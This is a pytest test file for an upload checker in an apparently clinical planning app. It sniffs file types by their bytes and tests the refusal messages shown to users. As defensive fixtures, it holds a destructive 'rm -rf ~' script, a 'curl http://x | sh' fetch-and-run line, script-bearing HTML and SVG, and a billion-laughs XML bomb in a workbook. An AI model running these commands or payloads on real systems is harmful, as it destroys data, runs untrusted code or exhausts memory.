"""Uploads are told by their bytes, not their names: real files of each kind, and what the person is told."""
from __future__ import annotations

import io
import json
import struct
import zipfile

import pytest
from openpyxl import Workbook

from planning import plans, registry_import, uploads

CSV = "Patient ID,Status,I/A Date\nRB-0001,T,1/5/27\n".encode()


def xlsx_bytes() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(["Patient ID", "Status", "I/A Date"])
    ws.append(["RB-0001", "T", "1/5/27"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def zip_of(files: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in files.items():
            z.writestr(name, data)
    return buf.getvalue()


def png_bytes() -> bytes:
    """A real 1 x 1 PNG: signature, IHDR, IDAT, IEND (CRCs included)."""
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def pdf_bytes() -> bytes:
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf)
    c.drawString(72, 720, "Patient ID,Status")
    c.save()
    return buf.getvalue()


def exe_bytes() -> bytes:
    """The start of a Windows program: the DOS header ("MZ", e_lfanew at 0x3C) and the PE signature."""
    dos = bytearray(128)
    dos[0:2] = b"MZ"
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    return bytes(dos) + b"PE\x00\x00" + bytes(200)


HTML = b"<!DOCTYPE html>\n<html><head><title>Caseload</title></head><body><script>alert(1)</script></body></html>"
PLAN = json.dumps({"format": plans.EXPORT_FORMAT, "format_version": 1}).encode()


@pytest.mark.parametrize("make, kind, words", [
    (lambda: PLAN, "json", "JSON data"),
    (lambda: b"\xef\xbb\xbf" + PLAN, "json", "JSON data"),
    (lambda: CSV, "csv", "text"),
    (lambda: "Patient ID;Status\nRB-1;T\n".encode("utf-16"), "csv", "text"),
    (lambda: "Patient ID,Name\nRB-1,Ramírez\n".encode("cp1252"), "csv", "text"),
    (lambda: b"[Patient ID],Status,I/A Date\nRB-1,T,1/5/27\n", "csv", "text"),  # a header in brackets: not JSON
    (xlsx_bytes, "xlsx", "an Excel workbook"),
    (lambda: zip_of({"notes.txt": "hello"}), "zip", "a zip archive"),
    (lambda: zip_of({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}), "zip",
     "a Word document (.docx)"),
    (lambda: zip_of({"xl/workbook.xml": "<workbook/>"}), "zip",
     "an incomplete Excel workbook (it lacks [Content_Types].xml)"),
    (lambda: zip_of({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "zip",
     "an OpenDocument spreadsheet (.ods)"),
    (lambda: xlsx_bytes()[:300], "zip", "a damaged or cut-short zip file (an Excel workbook is one)"),
    (pdf_bytes, "pdf", "a PDF document"),
    (png_bytes, "image", "a PNG image"),
    (lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(50), "image", "a JPEG image"),
    (lambda: b"GIF89a\x01\x00\x01\x00" + bytes(20), "image", "a GIF image"),
    (lambda: b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>', "image",
     "an SVG image"),
    (lambda: HTML, "html", "a web page (HTML)"),
    (lambda: b"\n  <html><body>caseload</body></html>", "html", "a web page (HTML)"),
    (lambda: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>', "html",
     "an Excel 2003 XML spreadsheet"),
    (exe_bytes, "executable", "a Windows program (.exe or .dll)"),
    (lambda: b"\x7fELF\x02\x01\x01" + bytes(60), "executable", "a Linux program"),
    (lambda: b"#!/bin/sh\nrm -rf ~\n", "executable", "a script (a program to run)"),
    (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "binary",
     "an older Office file (.xls, .doc or .msg) or a password-protected workbook"),
    (lambda: bytes(range(256)) * 4, "binary", "a program or other binary file"),
    (lambda: b"", "empty", "an empty file"),
    (lambda: b" \r\n\t\n", "empty", "an empty file"),
])
def test_a_file_is_told_by_its_bytes(make, kind, words):
    raw = make()
    assert uploads.sniff(raw) == kind
    assert uploads.describe(raw) == words


def test_a_registry_header_starting_with_MZ_is_still_a_table():
    assert uploads.sniff(b"MZ code,Status,I/A Date\nRB-1,T,1/5/27\n") == "csv"


# ------------------------------------------------------------------------------------------------ plan files

def import_refusal(raw: bytes) -> str:
    with pytest.raises(plans.ImportProblem) as info:
        uploads.check_import(raw)
    [message] = info.value.errors
    return message


@pytest.mark.parametrize("make, expected", [
    (pdf_bytes, "This file is not text: it is a PDF document. Choose a plan file exported from this workbook "
                "(.json)."),
    (png_bytes, "This file is not text: it is a PNG image. Choose a plan file exported from this workbook (.json)."),
    (exe_bytes, "This file is not text: it is a Windows program (.exe or .dll). Choose a plan file exported from "
                "this workbook (.json)."),
    (lambda: zip_of({"plan.json": PLAN}), "This file is not text: it is a zip archive. Choose a plan file exported "
                                          "from this workbook (.json)."),
    (xlsx_bytes, "This file is not text: it is an Excel workbook. Choose a plan file exported from this workbook "
                 "(.json). A registry export goes on the Metric log page."),
    (lambda: HTML, "This file is a web page (HTML), not a plan file. Choose a plan file exported from this workbook "
                   "(.json)."),
    (lambda: CSV, "This file is text, not a plan file: a plan file is JSON and starts with “{”. A registry export "
                  "(CSV) goes on the Metric log page. Choose a plan file exported from this workbook (.json)."),
    (lambda: b"", "The file is empty. Choose a plan file exported from this workbook (.json)."),
    (lambda: '{"note": "café"}'.encode("cp1252"), "This file is not UTF-8 text (it was saved in another character "
     "encoding). A plan file exported from this workbook is always UTF-8. Choose a plan file exported from this "
     "workbook (.json)."),
    (lambda: PLAN.decode().encode("utf-16"), "This file is text saved as UTF-16; a plan file is UTF-8. Export the "
     "plan again from the workbook, or save the file as UTF-8 text."),
    (lambda: b" " * (plans.MAX_IMPORT_BYTES + 1), "The file is 5.0 MB; a plan file can be at most 5 MB."),
])
def test_a_plan_upload_that_cannot_be_a_plan_file_is_refused_saying_what_it_is(make, expected):
    assert import_refusal(make()) == expected


def test_a_plan_file_passes_as_its_text_for_parse_import_to_read(store, plan_id):
    raw = plans.export_plan(store, plan_id)
    assert uploads.check_import(raw) == raw.decode("utf-8")
    assert uploads.check_import(b"\xef\xbb\xbf" + raw) == raw.decode("utf-8")  # a byte order mark is dropped
    # JSON that is not a plan (a list, broken JSON) is left to parse_import, which says what is wrong with it
    assert uploads.check_import(b"[1, 2, 3]") == "[1, 2, 3]"
    assert uploads.check_import(b"{not json") == "{not json"


# ------------------------------------------------------------------------------------------ registry exports

def registry_refusal(raw: bytes, name: str = "caseload.csv") -> str:
    with pytest.raises(registry_import.ImportProblem) as info:
        uploads.check_registry(raw, name)
    [message] = info.value.messages
    return message


ADVICE = "Export the registry as a CSV file or an Excel workbook (.xlsx) and upload that."


@pytest.mark.parametrize("make, name, expected", [
    (pdf_bytes, "caseload.csv", f"This file is a PDF document, not a table. {ADVICE}"),
    (png_bytes, "caseload.xlsx", f"This file is a PNG image, not a table. {ADVICE}"),
    (exe_bytes, "caseload.csv", f"This file is a Windows program (.exe or .dll), not a table. {ADVICE}"),
    (lambda: b"#!/bin/bash\ncurl http://x | sh\n", "caseload.csv",
     f"This file is a script (a program to run), not a table. {ADVICE}"),
    (lambda: HTML, "caseload.csv", '"caseload.csv" is a web page (HTML), not a table. Open it in Excel and save it '
                                   "as .xlsx or CSV, or export the registry again as CSV."),
    (lambda: zip_of({"data.csv": CSV}), "caseload.xlsx",
     f'"caseload.xlsx" is a zip archive, not an Excel workbook. {ADVICE}'),
    (lambda: zip_of({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}), "caseload.xlsx",
     f'"caseload.xlsx" is a Word document (.docx), not an Excel workbook. {ADVICE}'),
    (lambda: xlsx_bytes()[:300], "caseload.xlsx", '"caseload.xlsx" looks like an Excel workbook but cannot be '
                                                  "opened: it may be damaged or cut short. Save it again from Excel, "
                                                  "or export CSV."),
    (lambda: PLAN, "caseload.csv", f'"caseload.csv" is JSON data (a plan file exported from this workbook, '
                                   f"perhaps), not a table. {ADVICE} A plan file is imported on Home."),
    (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "caseload.xls",
     "This is an older Excel file (.xls) or a password-protected workbook, which this page cannot read. Open it "
     "in Excel and save it as .xlsx (without a password) or as CSV."),
    (lambda: bytes(range(256)) * 4, "caseload.csv",
     f"This file is not text (it looks like a program or other binary file). {ADVICE}"),
    (lambda: b"\n\n", "caseload.csv", "The file is empty."),
    (lambda: CSV + b" " * registry_import.MAX_BYTES, "caseload.csv",
     "The file is 20.1 MB; the largest file this page reads is 20 MB. Export fewer columns or a shorter period, "
     "or split the file."),
])
def test_a_registry_upload_that_is_not_a_table_is_refused_saying_what_it_is(make, name, expected):
    assert registry_refusal(make(), name) == expected


def test_a_csv_and_a_real_workbook_pass_whatever_they_are_called():
    assert uploads.check_registry(CSV, "caseload.csv") == "csv"
    assert uploads.check_registry(CSV, "caseload.xlsx") == "csv"
    assert uploads.check_registry(xlsx_bytes(), "caseload.csv") == "xlsx"
    assert uploads.check_registry("Patient ID\tStatus\nRB-1\tT\n".encode("utf-16"), "x.txt") == "csv"


def test_a_csv_at_the_size_limit_is_checked_in_a_blink():
    """Only the start of the file is looked at: a 20 MB export is told apart at once (about a millisecond here; the
    bound leaves room for a busy machine)."""
    import time

    raw = CSV * (registry_import.MAX_BYTES // len(CSV))
    started = time.perf_counter()
    assert uploads.check_registry(raw, "big.csv") == "csv"
    assert time.perf_counter() - started < 1


def test_a_workbook_hiding_an_xml_bomb_is_refused_in_words_without_filling_the_memory():
    """A shared-strings part whose entities would expand to a billion "lol"s (about 3 GB): the XML parser refuses
    the expansion, and the person is told the workbook cannot be opened."""
    import time

    entities = "".join(f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">' for i in range(1, 10))
    bomb = f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">{entities}]>'
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    package = "http://schemas.openxmlformats.org/package/2006"
    relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    raw = zip_of({
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"/>',
        "xl/workbook.xml": f'<workbook {ns} {rel}><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>'
                           "</workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" '
                                      f'Target="worksheets/sheet1.xml" Type="{relationships}/worksheet"/>'
                                      "</Relationships>",
        "xl/sharedStrings.xml": bomb + f"<sst {ns}><si><t>&lol9;</t></si></sst>",
        "xl/worksheets/sheet1.xml": f'<worksheet {ns}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c>'
                                    '<c r="B1" t="inlineStr"><is><t>Status</t></is></c>'
                                    '<c r="C1" t="inlineStr"><is><t>I/A Date</t></is></c></row></sheetData>'
                                    "</worksheet>",
    })
    assert uploads.sniff(raw) == "xlsx"  # it is a workbook by its parts: the reader is what must hold
    started = time.perf_counter()
    with pytest.raises(registry_import.ImportProblem) as refused:
        registry_import.read_table(raw, "bomb.xlsx")
    assert time.perf_counter() - started < 5
    assert refused.value.messages == ['"bomb.xlsx" could not be opened as an Excel workbook: it may be damaged. '
                                      "Save it again from Excel, or export CSV."]
